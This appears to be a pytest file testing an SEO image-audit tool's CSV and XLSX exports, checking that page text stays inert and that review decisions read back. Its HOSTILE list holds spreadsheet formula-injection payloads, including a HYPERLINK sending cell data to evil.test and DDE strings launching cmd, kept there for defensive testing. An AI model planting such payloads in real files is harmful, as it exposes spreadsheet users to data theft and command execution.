"""Exports an SEO team opens in a spreadsheet (issue 28): a CSV with a byte-order mark, an XLSX
with a sheet per view, and hostile page text that stays text in both (OWASP's CSV injection)."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest
from conftest import FakeCaptioner, FixtureServer, make_image

from options import AuditOptions
from pipeline import run_audit
from records import AuditReport
from reports import write_csv
from reports.cells import FORMULA_STARTS, neutral
from reports.formats import FORMATS
from reports.writers import CSV_COLUMNS, write_pages_csv

HOSTILE = [
    '=HYPERLINK("http://evil.test/?x="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]


@pytest.fixture()
def hostile_report(fresh_server: FixtureServer) -> AuditReport:
    images = "".join(
        f'<img src="/img/{i}.png" alt="{alt.replace(chr(34), "&quot;")}" title="{alt.replace(chr(34), "&quot;")}">'
        for i, alt in enumerate(HOSTILE)
    )
    fresh_server.add("/", f"<html><head><title>=1+1 Café</title></head><body>{images}"
                     '<img src="/img/cafe.png" alt="Café crème"></body></html>')  # fmt: skip
    for i in range(len(HOSTILE)):
        fresh_server.add(f"/img/{i}.png", make_image(300, 200, seed=i), content_type="image/png")
    fresh_server.add("/img/cafe.png", make_image(300, 200, seed=9), content_type="image/png")
    options = AuditOptions(render="never", allow_private=True, ocr="off")
    return run_audit([fresh_server.url("/")], options, FakeCaptioner())


def test_neutral_cells() -> None:
    assert [neutral(text) for text in HOSTILE] == ["'" + text for text in HOSTILE]
    assert neutral("\tx") == "'\tx" and neutral("A photo") == "A photo" and neutral(-3) == -3 and neutral(None) is None


def test_the_csv_opens_in_excel_with_accents_and_no_formulas(hostile_report: AuditReport, tmp_path: Path) -> None:
    path = write_csv(hostile_report, tmp_path / "report.csv")
    assert path.read_bytes().startswith(b"\xef\xbb\xbf")
    with path.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert list(rows[0]) == CSV_COLUMNS
    cells = [value for row in rows for value in row.values() if value]
    assert not [value for value in cells if value.startswith(FORMULA_STARTS)]  # nothing a spreadsheet would run
    alts = {row["alt"] for row in rows}
    assert {"'" + text for text in HOSTILE} <= alts and "Café crème" in alts
    assert {row["page_title"] for row in rows} == {"'=1+1 Café"}
    pages = tmp_path / "pages.csv"
    write_pages_csv(hostile_report, pages)
    assert pages.read_bytes().startswith(b"\xef\xbb\xbf") and "'=1+1 Café" in pages.read_text(encoding="utf-8-sig")


def test_the_xlsx_has_a_sheet_per_view_and_text_cells(hostile_report: AuditReport, tmp_path: Path) -> None:
    from openpyxl import load_workbook
    from openpyxl.utils import get_column_letter

    path = FORMATS["xlsx"].write(hostile_report, tmp_path / "report.xlsx")
    workbook = load_workbook(path)
    assert workbook.sheetnames == ["Review", "Images", "Pages", "Issues"]
    review, images, pages, issues = (workbook[name] for name in workbook.sheetnames)
    records = [record for page in hostile_report.pages for record in page.images]
    findings = sum(len(record.alt_issues) + len(record.seo_issues) for record in records)
    assert images.max_row == 1 + len(records) and pages.max_row == 2 and issues.max_row == 1 + findings > 1
    header = [cell.value for cell in images[1]]
    assert header == CSV_COLUMNS and images.freeze_panes == "A2" and images.auto_filter.ref.startswith("A1:")
    alt_column = header.index("alt") + 1
    alts = {images.cell(row, alt_column).value for row in range(2, images.max_row + 1)}
    assert set(HOSTILE) | {"Café crème"} == alts  # the page's text as written...
    for sheet in (review, images, pages, issues):
        for row in sheet.iter_rows(min_row=2):
            assert not [cell for cell in row if cell.data_type == "f"]  # ...and never a formula
    width_column = header.index("width") + 1
    assert images.cell(2, width_column).value == 300  # numbers stay numbers
    # the decision column is a review's: a list to pick from, and a note on passing the file back
    [choice] = images.data_validations.dataValidation
    letter = get_column_letter(header.index("decision") + 1)
    assert choice.formula1 == '"accept,edit,reject"' and str(choice.sqref) == f"{letter}2:{letter}1048576"
    assert "--decisions" in choice.prompt and not pages.data_validations.dataValidation


def test_the_review_sheet_lists_each_image_once_and_reads_back(fresh_server: FixtureServer, tmp_path: Path) -> None:
    """A site's logo on every page is one row of the Review sheet (with how many pages show it), and a
    decision made there is what --decisions reads; a workbook reviewed on its Images sheet still reads."""
    from openpyxl import load_workbook

    from reports.decisions import read_decisions

    logo = '<a href="/"><img src="/logo.png" width="40" height="40"></a>'
    for path in ("/", "/a", "/b"):
        fresh_server.add(path, f'<html><head><meta property="og:site_name" content="Acme"></head><body>{logo}'
                               f'<img src="/photo{path.strip("/")}.jpg" alt="photo.jpg"></body></html>')  # fmt: skip
        fresh_server.add(f"/photo{path.strip('/')}.jpg", make_image(300, 200, "JPEG", seed=len(path)),
                         content_type="image/jpeg")  # fmt: skip
    fresh_server.add("/logo.png", make_image(40, 40, seed=1), content_type="image/png")
    options = AuditOptions(render="never", allow_private=True, ocr="off")
    report = run_audit([fresh_server.url(p) for p in ("/", "/a", "/b")], options, FakeCaptioner())
    path = FORMATS["xlsx"].write(report, tmp_path / "report.xlsx")
    sheet = load_workbook(path)["Review"]
    header = [cell.value for cell in sheet[1]]
    rows = [dict(zip(header, (cell.value for cell in row), strict=True)) for row in sheet.iter_rows(min_row=2)]
    by_url = {row["url"].rsplit("/", 1)[-1]: row for row in rows}
    assert sorted(by_url) == ["logo.png", "photo.jpg", "photoa.jpg", "photob.jpg"]  # the logo once, not 3 times
    assert (by_url["logo.png"]["pages"], by_url["logo.png"]["suggested_alt"]) == (3, "Acme home page")
    assert by_url["logo.png"]["alt"] == "(none)" and by_url["photo.jpg"]["alt"] == "photo.jpg"
    assert by_url["logo.png"]["export"] == "yes" and by_url["logo.png"]["suggestion_basis"] == "link_target"

    book = load_workbook(path)
    review = book["Review"]
    decision, text = header.index("decision") + 1, header.index("suggested_alt") + 1
    logo_row = next(r for r in range(2, review.max_row + 1) if str(review.cell(r, 1).value).endswith("/logo.png"))
    review.cell(logo_row, decision).value = "accept"
    review.cell(logo_row, text).value = "Acme Bakery home page"
    book.save(tmp_path / "reviewed.xlsx")
    decided = read_decisions(tmp_path / "reviewed.xlsx")
    assert [(d.url.rsplit("/", 1)[-1], d.decision, d.text) for d in decided.values()] == [
        ("logo.png", "accept", "Acme Bakery home page")
    ]
    book = load_workbook(tmp_path / "reviewed.xlsx")  # decided on both sheets: the Review sheet's come last
    images = book["Images"]
    columns = [cell.value for cell in images[1]]
    for row in range(2, images.max_row + 1):
        name = str(images.cell(row, columns.index("url") + 1).value).rsplit("/", 1)[-1]
        if name in ("logo.png", "photoa.jpg"):
            images.cell(row, columns.index("decision") + 1).value = "reject"
    book.save(tmp_path / "both.xlsx")
    decided = {d.url.rsplit("/", 1)[-1]: d.decision for d in read_decisions(tmp_path / "both.xlsx").values()}
    assert decided == {"logo.png": "accept", "photoa.jpg": "reject"}
